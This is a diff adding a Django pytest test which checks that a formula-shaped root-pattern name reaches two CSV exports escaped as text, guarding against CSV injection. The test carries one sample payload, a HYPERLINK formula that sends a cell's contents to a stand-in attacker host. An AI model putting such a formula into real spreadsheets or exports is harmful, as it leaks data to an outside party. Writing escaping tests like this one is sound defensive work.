@@ -10,6 +10,7 @@ import pytest
 import time_machine
 
 from costlog import services as costlog
+from costlog.models import RootPattern
 from incidents import action_items, meetings, services
 from incidents.meetings import AttendeeInput
 from incidents.models import Postmortem
@@ -276,3 +277,26 @@ def test_imported_records_without_an_event_time_count_from_their_earliest_timeli
     assert result.postmortems == len(records) == 8
     assert {month: sum(counts.values()) for month, counts in result.by_root_cause.items()} \
         == dict(expected)
+
+
+def test_a_root_pattern_named_like_a_formula_reaches_both_csvs_as_text(django_app, history):
+    # A spreadsheet opening an exported CSV runs a cell that starts with = + - @ as a
+    # formula (OWASP: CSV injection). An admin may name a root pattern anything; both
+    # exports write such a name as text (a leading apostrophe), never as a formula.
+    admin = make_user("root", role="admin", is_staff=True, is_superuser=True)
+    pattern = RootPattern.objects.get(name="Silent fallback")
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Silent fallback")'
+    form = django_app.get(f"/admin/costlog/rootpattern/{pattern.pk}/change/",
+                          user=admin).forms["rootpattern_form"]
+    form["name"] = formula
+    form.submit().follow()
+    with time_machine.travel(NOW, tick=False):
+        insights_rows = list(csv.reader(io.StringIO(
+            django_app.get("/insights.csv", user=admin).text)))
+        cost_rows = list(csv.reader(io.StringIO(
+            django_app.get("/costs/totals.csv?period=all", user=admin).text)))
+    names = {row[1] for row in insights_rows if row[0].startswith("cost_")}
+    assert "'" + formula in names and formula not in names
+    assert "'" + formula in {row[0] for row in cost_rows}
+    assert not any(cell.startswith(("=", "+", "@")) for row in insights_rows + cost_rows
+                   for cell in row)
